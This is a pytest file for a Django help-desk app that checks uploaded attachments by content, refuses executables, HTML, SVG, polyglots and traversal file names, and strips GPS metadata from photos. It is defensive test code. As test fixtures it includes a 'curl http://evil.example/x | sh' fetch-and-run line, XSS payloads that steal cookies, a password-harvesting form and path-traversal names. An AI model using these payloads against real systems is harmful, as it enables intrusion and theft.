"""Help-desk attachments (issue 7, quality): renamed executables, HTML and SVG files,
polyglots, oversize and path-like file names are refused with a clear message; accepted
images come back without location data.

Every file is built here: images with Pillow (EXIF with a GPS block, PNG text chunks), a
minimal PDF, a minimal DOCX written with zipfile, executables and markup by hand. The checks
run through `network.attachments.check`, and through the real pages: the city's intake
form, a reply on a request, and the download view.
"""

import io
import zipfile
from pathlib import Path

import pytest
from django.conf import settings
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import translation
from PIL import Image, PngImagePlugin

from helpdesk.models import Attachment, Event, HelpRequest, Message
from network import attachments
from network.models import Membership
from tests.network.factories import MembershipFactory, OrganisationFactory

GPS_TAG = 0x8825
GPS = {1: "N", 2: (53.0, 32.0, 46.0), 3: "W", 4: (113.0, 29.0, 25.0)}  # a house in Edmonton
NOT_ACCEPTED = "is not a file we accept"
DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"


# --- Files, built here ---


def _exif() -> Image.Exif:
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0131] = "Secret Camera App"  # Software
    exif[GPS_TAG] = dict(GPS)
    return exif


def jpeg_with_gps() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), (200, 30, 30)).save(out, "JPEG", exif=_exif(), quality=90)
    data = out.getvalue()
    with Image.open(io.BytesIO(data)) as image:  # the test file really carries a location
        assert image.getexif().get_ifd(GPS_TAG)[1] == "N"
    return data


def png_with_metadata() -> bytes:
    info = PngImagePlugin.PngInfo()
    info.add_text("Comment", "Taken at 10 Elm Street")
    info.add_itxt("Location", "53.5461,-113.4938")
    out = io.BytesIO()
    Image.new("RGBA", (20, 20), (0, 0, 255, 128)).save(out, "PNG", pnginfo=info, exif=_exif())
    data = out.getvalue()
    with Image.open(io.BytesIO(data)) as image:
        image.load()
        assert "Comment" in image.info and "exif" in image.info
        assert GPS_TAG in image.getexif()
    return data


def minimal_pdf() -> bytes:
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
    ]
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, body))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(
        b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    )
    return out.getvalue()


CONTENT_TYPES = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
    '<Default Extension="xml" ContentType="application/xml"/>'
    '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
    'officedocument.wordprocessingml.document.main+xml"/></Types>'
)
DOCUMENT = (
    '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
    "<w:body><w:p><w:r><w:t>Plan de sécurité</w:t></w:r></w:p></w:body></w:document>"
)


def docx(extra: dict[str, bytes] | None = None) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", CONTENT_TYPES)
        archive.writestr("word/document.xml", DOCUMENT)
        for name, content in (extra or {}).items():
            archive.writestr(name, content)
    return out.getvalue()


def plain_zip() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("notes.txt", "hello")
        archive.writestr("run.exe", b"MZ\x90\x00")
    return out.getvalue()


FRENCH_TEXT = "Événement à Montréal : « ça dégénère », déjà signalé à la police. Où aller ?\n"
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00"
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00"
SHELL = b"#!/bin/sh\ncurl http://evil.example/x | sh\n"
HTML = b"<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n"
SVG_WITH_DECLARATION = (
    b'<?xml version="1.0" encoding="UTF-8"?>\n'
    b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>\n'
)
SVG_BARE = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'


def upload(name: str, data: bytes, content_type: str = "application/octet-stream"):
    return SimpleUploadedFile(name, data, content_type=content_type)


def refusal(name: str, data: bytes) -> str:
    with pytest.raises(ValidationError) as caught:
        attachments.check(upload(name, data))
    return " ".join(caught.value.messages)


# --- The check itself ---


@pytest.mark.parametrize(
    ("name", "data"),
    [
        pytest.param("report.pdf", PE, id="windows-executable-renamed-pdf"),
        pytest.param("photo.jpg", ELF, id="elf-renamed-jpg"),
        pytest.param("notes.txt", SHELL, id="shell-script-renamed-txt"),
        pytest.param("minutes.txt", HTML, id="html-renamed-txt"),
        pytest.param("minutes.txt", HTML.upper(), id="html-upper-case"),
        pytest.param("logo.png", SVG_WITH_DECLARATION, id="svg-with-xml-declaration"),
        pytest.param("logo.svg", SVG_BARE, id="svg-without-declaration"),
        pytest.param("photo.jpg", jpeg_with_gps() + b"<script>alert(1)</script>", id="jpeg+script"),
        pytest.param("photo.png", png_with_metadata() + plain_zip(), id="png+zip"),
        pytest.param("plan.docx", plain_zip(), id="zip-not-docx"),
        pytest.param("plan.docx", b"PK\x03\x04 not really a zip", id="broken-zip"),
        pytest.param("image.png", b"GIF89a\x01\x00\x01\x00\x80\x00\x00\xff\xff\xff", id="gif"),
        pytest.param("data.txt", "Bonjour".encode("utf-16"), id="utf16-not-utf8-text"),
    ],
)
def test_files_that_are_not_what_we_accept_are_refused_with_a_clear_message(name, data):
    message = refusal(name, data)
    assert NOT_ACCEPTED in message
    assert "PDF, PNG, JPEG, Word (.docx) or plain text" in message  # says what to send instead
    assert name.rsplit(".", 1)[0] in message  # names the file the person chose


def test_an_empty_file_is_refused():
    assert "“empty.pdf” is empty." in refusal("empty.pdf", b"")


def test_a_file_one_byte_over_10_mb_is_refused_and_exactly_10_mb_is_accepted():
    over = upload("big.txt", b"a" * (10 * 1024 * 1024 + 1), "text/plain")
    with pytest.raises(ValidationError) as caught:
        attachments.check(over)
    assert "“big.txt” is larger than 10 MB. Please send a smaller file." in caught.value.messages

    # The size an upload claims is not trusted either: the content is read and measured.
    class Lying(SimpleUploadedFile):
        size = 10

    with pytest.raises(ValidationError, match="larger than 10 MB"):
        attachments.check(Lying("liar.txt", b"a" * (10 * 1024 * 1024 + 1)))

    exact = attachments.check(upload("exact.txt", b"a" * (10 * 1024 * 1024), "text/plain"))
    assert exact.size == 10 * 1024 * 1024
    assert exact.content_type == "text/plain"


@pytest.mark.parametrize(
    ("name", "data", "kind", "extension"),
    [
        ("brief.pdf", minimal_pdf(), "application/pdf", ".pdf"),
        ("plan.docx", docx(), DOCX, ".docx"),
        ("lettre.txt", FRENCH_TEXT.encode("utf-8"), "text/plain", ".txt"),
        ("photo.jpg", jpeg_with_gps(), "image/jpeg", ".jpg"),
        ("screen.png", png_with_metadata(), "image/png", ".png"),
    ],
)
def test_the_accepted_formats_are_recognised_by_their_content(name, data, kind, extension):
    checked = attachments.check(upload(name, data))
    assert checked.content_type == kind
    assert checked.name == name.rsplit(".", 1)[0] + extension
    if not kind.startswith("image/"):
        assert checked.content.read() == data  # documents are kept as they are
    assert checked.size == len(checked.content)


def test_the_type_comes_from_the_content_never_from_the_name():
    assert attachments.check(upload("notes.pdf", FRENCH_TEXT.encode())).name == "notes.txt"
    checked = attachments.check(upload("scan.txt", minimal_pdf()))
    assert (checked.name, checked.content_type) == ("scan.pdf", "application/pdf")
    assert attachments.check(upload("photo", jpeg_with_gps())).name == "photo.jpg"


def _open(data: bytes) -> Image.Image:
    image = Image.open(io.BytesIO(data))
    image.load()
    return image


def assert_no_location(data: bytes) -> None:
    with _open(data) as image:
        exif = image.getexif()
        assert GPS_TAG not in exif
        assert not exif.get_ifd(GPS_TAG)
        assert "exif" not in image.info
        assert 0x010F not in exif  # the camera make went too: no EXIF at all
        for key in ("Comment", "Location"):
            assert key not in image.info
        assert b"53.5461" not in data and b"Elm Street" not in data


def test_images_are_written_again_without_exif_gps_or_text_chunks():
    for name, data in [("photo.jpg", jpeg_with_gps()), ("screen.png", png_with_metadata())]:
        checked = attachments.check(upload(name, data))
        clean = checked.content.read()
        assert_no_location(clean)
        with _open(clean) as image, _open(data) as original:
            assert image.size == original.size  # the picture itself is kept
            assert image.format == original.format


@pytest.mark.parametrize(
    "name",
    [
        "../../etc/passwd.txt",
        "..\\..\\etc\\passwd.txt",
        "C:\\Windows\\evil.pdf",
        "/var/www/evil.pdf",
        "re\x00port\r\n\x1b[31m.txt",
        "<script>alert(1)</script>.txt",
        'what "is" this?|*:.txt',
        "\u2025\uff0f\u2025\uff0fetc\uff0fpasswd.txt",  # full-width slashes and two-dot leaders
        "...",
        "",
        "a" * 300 + ".txt",
    ],
)
def test_path_like_and_hostile_names_are_made_safe(name):
    for safe in (
        attachments.safe_name(name, ".txt"),  # the raw name, as a client could send it
        attachments.check(upload(name or "x", FRENCH_TEXT.encode())).name,
    ):
        assert safe.endswith(".txt")
        for bad in ("/", "\\", "<", ">", ":", '"', "|", "?", "*", ".."):
            assert bad not in safe, (bad, safe)
        assert all(ch.isprintable() for ch in safe), safe
        assert not safe.startswith(".")
        assert len(safe) <= 120  # fits Attachment.name


def test_path_like_names_keep_only_their_last_part():
    text = FRENCH_TEXT.encode()
    assert attachments.check(upload("../../etc/passwd.txt", text)).name == "passwd.txt"
    assert attachments.check(upload("C:\\Windows\\evil.pdf", minimal_pdf())).name == "evil.pdf"
    assert attachments.safe_name("<b>name<b>.txt", ".txt") == "bnameb.txt"
    assert attachments.safe_name("", ".pdf") == "file.pdf"


def test_the_refusal_message_never_echoes_a_path_or_markup():
    message = refusal("../../<img src=x onerror=alert(1)>.exe", PE)
    assert "<" not in message and ">" not in message and "../" not in message


# --- Through the real pages ---


@pytest.fixture
def city_lead(client, db):
    organisation = OrganisationFactory(name="Testville")
    membership = MembershipFactory(organisation=organisation, role=Membership.Role.LEAD)
    client.force_login(membership.user)
    return membership.user


def intake(organisation, **extra):
    return {
        "organisation": organisation.pk,
        "urgency": "routine",
        "summary": "Sticker campaign near the library",
        "details": "Stickers with a neo-Nazi symbol appeared near the central library.",
        "country": "CA",
        "region": "CA-ON",
        "language": "en",
        "sensitivity": "standard",
        **extra,
    }


def _private_files() -> set[Path]:
    return {p for p in Path(settings.HUB_PRIVATE_MEDIA_ROOT).rglob("*") if p.is_file()}


def _counts():
    return (
        HelpRequest.objects.count(),
        Message.objects.count(),
        Attachment.objects.count(),
        Event.objects.count(),
    )


BAD_UPLOADS = [
    pytest.param("report.pdf", PE, NOT_ACCEPTED, id="executable"),
    pytest.param("minutes.txt", HTML, NOT_ACCEPTED, id="html"),
    pytest.param("logo.svg", SVG_BARE, NOT_ACCEPTED, id="svg"),
    pytest.param("photo.jpg", jpeg_with_gps() + b"<script>x</script>", NOT_ACCEPTED, id="polyglot"),
    pytest.param("big.txt", b"a" * (10 * 1024 * 1024 + 1), "is larger than 10 MB", id="oversize"),
    pytest.param("empty.pdf", b"", "is empty", id="empty"),
]


@pytest.mark.parametrize(("name", "data", "expected"), BAD_UPLOADS)
def test_the_intake_form_refuses_a_bad_file_saves_nothing_and_keeps_what_was_typed(
    client, city_lead, name, data, expected
):
    organisation = city_lead.memberships.get().organisation
    before, files_before = _counts(), _private_files()
    response = client.post("/en/help-desk/new/", intake(organisation, files=[upload(name, data)]))
    content = response.content.decode()
    assert response.status_code == 200
    assert expected in content
    assert 'class="error"' in content  # shown next to the attachments field
    assert "Sticker campaign near the library" in content
    assert "Stickers with a neo-Nazi symbol appeared near the central library." in content
    assert _counts() == before
    assert _private_files() == files_before


def test_one_bad_file_among_good_ones_refuses_them_all(client, city_lead):
    organisation = city_lead.memberships.get().organisation
    before = _counts()
    response = client.post(
        "/en/help-desk/new/",
        intake(organisation, files=[upload("brief.pdf", minimal_pdf()), upload("x.txt", HTML)]),
    )
    assert response.status_code == 200
    assert NOT_ACCEPTED in response.content.decode()
    assert _counts() == before


def test_the_intake_form_in_french_refuses_a_bad_file(client, city_lead):
    organisation = city_lead.memberships.get().organisation
    before = _counts()
    response = client.post(
        "/fr/help-desk/new/", intake(organisation, files=[upload("report.pdf", PE)])
    )
    content = response.content.decode()
    assert response.status_code == 200
    assert 'lang="fr"' in content
    assert 'enctype="multipart/form-data"' in content and 'name="summary"' in content
    assert "Sticker campaign near the library" in content
    assert _counts() == before
    with translation.override("fr"):
        french = translation.gettext(
            "“%(name)s” is not a file we accept. Please send a %(accepted)s file."
        )
        accepted = translation.gettext("PDF, PNG, JPEG, Word (.docx) or plain text")
    if "is not a file we accept" not in french:  # once the French catalogue has it
        assert french.split("%(name)s”")[1].split("%(accepted)s")[0].strip() in content
        assert accepted in content
        assert NOT_ACCEPTED not in content


@pytest.fixture
def open_request(city_lead):
    membership = city_lead.memberships.get()
    return HelpRequest.objects.create(
        organisation=membership.organisation,
        requester=city_lead,
        country="CA",
        region="CA-ON",
        language="en",
        urgency="routine",
        sensitivity="standard",
        summary="Graffiti at city hall",
        details="Swastikas painted overnight.",
        status=HelpRequest.Status.IN_PROGRESS,
    )


@pytest.mark.parametrize(("name", "data", "expected"), BAD_UPLOADS)
def test_a_reply_with_a_bad_file_is_refused_and_saves_nothing(
    client, open_request, name, data, expected
):
    before, files_before = _counts(), _private_files()
    response = client.post(
        f"/en/help-desk/{open_request.public_id}/",
        {
            "action": "message",
            "body": "Here is the photo you asked for.",
            "files": [upload(name, data)],
        },
    )
    content = response.content.decode()
    assert response.status_code == 200
    assert expected in content
    assert "Here is the photo you asked for." in content  # still in the form
    assert _counts()[:3] == before[:3]
    assert not Event.objects.filter(request=open_request).exclude(kind=Event.Kind.VIEWED).exists()
    assert _private_files() == files_before
    open_request.refresh_from_db()
    assert open_request.status == HelpRequest.Status.IN_PROGRESS


def test_a_reply_in_french_with_a_bad_file_shows_the_form_again(client, open_request):
    before = _counts()
    response = client.post(
        f"/fr/help-desk/{open_request.public_id}/",
        {"action": "message", "body": "Voici la photo.", "files": [upload("a.svg", SVG_BARE)]},
    )
    content = response.content.decode()
    assert response.status_code == 200
    assert 'lang="fr"' in content
    assert 'name="action" value="message"' in content and "Voici la photo." in content
    assert _counts()[:3] == before[:3]


def _download(client, help_request, attachment):
    response = client.get(f"/en/help-desk/{help_request.public_id}/files/{attachment.public_id}/")
    assert response.status_code == 200, response.status_code
    data = b"".join(response.streaming_content)  # the test client closes it at the end
    return response, data


def assert_private_download(response, attachment):
    assert response["Content-Disposition"].startswith("attachment;")
    assert attachment.name in response["Content-Disposition"]
    assert response["X-Content-Type-Options"] == "nosniff"
    cache = response["Cache-Control"]
    assert "no-store" in cache and "no-cache" in cache and "private" in cache
    assert response["Content-Type"].startswith(attachment.content_type)


def assert_stored_privately(attachment, uploaded_name):
    path = Path(attachment.file.path).resolve()
    private = Path(settings.HUB_PRIVATE_MEDIA_ROOT).resolve()
    media = Path(settings.MEDIA_ROOT).resolve()
    assert path.is_relative_to(private)
    assert not path.is_relative_to(media)
    assert not private.is_relative_to(media)
    stem = Path(uploaded_name.replace("\\", "/")).stem
    assert stem not in attachment.file.name  # the name on disk is never the uploaded one
    assert "." not in Path(attachment.file.name).name  # no extension a server could act on


def assert_not_served_publicly(client, attachment):
    # Whatever URL the storage would give, nothing answers there: the only way out is the
    # view that checks access.
    for url in (f"{settings.MEDIA_URL}{attachment.file.name}", f"/media/{attachment.file.name}"):
        response = client.get(url, follow=True)
        assert response.status_code == 404, url


def test_a_photo_filed_with_a_request_comes_back_without_its_location(client, city_lead):
    organisation = city_lead.memberships.get().organisation
    response = client.post(
        "/en/help-desk/new/",
        intake(
            organisation,
            files=[
                upload("IMG_2031 home.jpg", jpeg_with_gps(), "image/jpeg"),
                upload("screen.png", png_with_metadata(), "image/png"),
            ],
        ),
    )
    assert response.status_code == 302, response.content.decode()[:3000]
    filed = HelpRequest.objects.get(summary="Sticker campaign near the library")
    photos = list(filed.attachments.order_by("pk"))
    assert [a.name for a in photos] == ["IMG_2031 home.jpg", "screen.png"]
    page = client.get(f"/en/help-desk/{filed.public_id}/").content.decode()
    for photo in photos:
        assert f"/en/help-desk/{filed.public_id}/files/{photo.public_id}/" in page
        download, data = _download(client, filed, photo)
        assert_private_download(download, photo)
        assert_no_location(data)
        assert_stored_privately(
            photo, "IMG_2031 home.jpg" if photo.name.endswith("jpg") else "screen.png"
        )
        assert_not_served_publicly(client, photo)
        assert Path(photo.file.path).read_bytes() == data
        assert b"Secret Camera App" not in Path(photo.file.path).read_bytes()
    assert Event.objects.filter(request=filed, kind=Event.Kind.DOWNLOADED).count() == 2


def test_a_reply_with_a_path_like_name_is_stored_under_a_random_name(client, open_request):
    response = client.post(
        f"/en/help-desk/{open_request.public_id}/",
        {
            "action": "message",
            "body": "",
            "files": [
                upload("..\\..\\Windows\\System32\\brief.pdf", minimal_pdf()),
                upload("../../etc/passwd.txt", FRENCH_TEXT.encode()),
            ],
        },
    )
    assert response.status_code == 302
    message = Message.objects.get(request=open_request)
    pdf, text = message.attachments.order_by("pk")
    assert (pdf.name, text.name) == ("brief.pdf", "passwd.txt")
    for attachment, uploaded in [(pdf, "brief.pdf"), (text, "passwd.txt")]:
        assert_stored_privately(attachment, uploaded)
        download, data = _download(client, open_request, attachment)
        assert_private_download(download, attachment)
    assert data.decode("utf-8") == FRENCH_TEXT  # accents intact


def test_a_file_of_exactly_10_mb_is_accepted_on_a_reply(client, open_request):
    response = client.post(
        f"/en/help-desk/{open_request.public_id}/",
        {
            "action": "message",
            "body": "The log.",
            "files": [upload("log.txt", b"a" * (10 * 1024 * 1024), "text/plain")],
        },
    )
    assert response.status_code == 302
    assert Attachment.objects.get(request=open_request).size == 10 * 1024 * 1024


@pytest.mark.parametrize(
    "data",
    [
        pytest.param(b"<img src=x onerror=alert(document.cookie)>", id="img-onerror"),
        pytest.param(
            b'<meta http-equiv="refresh" content="0;url=https://evil.example/">', id="meta-refresh"
        ),
        pytest.param(
            b"<style>body{display:none}</style><form action=https://evil.example>"
            b"<input name=password></form>",
            id="style-form",
        ),
    ],
)
def test_html_fragments_renamed_txt_are_refused_too(data):
    """HTML is HTML without a doctype or <html>: a browser renders these fragments."""
    assert NOT_ACCEPTED in refusal("minutes.txt", data)


# --- The download is recorded only once the file is open (issue 23) ---


def _reply_with_a_file(client, open_request) -> Attachment:
    response = client.post(
        f"/en/help-desk/{open_request.public_id}/",
        {"action": "message", "body": "", "files": [upload("brief.pdf", minimal_pdf())]},
    )
    assert response.status_code == 302
    return Attachment.objects.get(request=open_request)


def _downloads(help_request) -> int:
    return Event.objects.filter(request=help_request, kind=Event.Kind.DOWNLOADED).count()


def test_a_download_is_recorded_once_the_file_is_open(client, open_request):
    attachment = _reply_with_a_file(client, open_request)
    assert _downloads(open_request) == 0
    _download(client, open_request, attachment)
    assert _downloads(open_request) == 1


def test_a_file_missing_from_storage_answers_404_and_is_not_recorded_as_downloaded(
    client, open_request
):
    attachment = _reply_with_a_file(client, open_request)
    attachment.file.storage.delete(attachment.file.name)  # lost: another node's disk, say
    response = client.get(f"/en/help-desk/{open_request.public_id}/files/{attachment.public_id}/")
    content = response.content.decode()
    assert response.status_code == 404
    assert "This file is no longer available" in content
    assert "ask the help desk in a reply to send it again" in content
    assert _downloads(open_request) == 0


def test_a_file_the_storage_cannot_read_answers_503_and_is_not_recorded(client, open_request):
    attachment = _reply_with_a_file(client, open_request)
    path = Path(attachment.file.path)
    path.unlink()
    path.mkdir()  # reading it now fails with an OSError that is not "not found"
    try:
        response = client.get(
            f"/en/help-desk/{open_request.public_id}/files/{attachment.public_id}/"
        )
    finally:
        path.rmdir()
    assert response.status_code == 503
    assert response["Retry-After"] == "60"
    assert "This file cannot be reached right now" in response.content.decode()
    assert _downloads(open_request) == 0
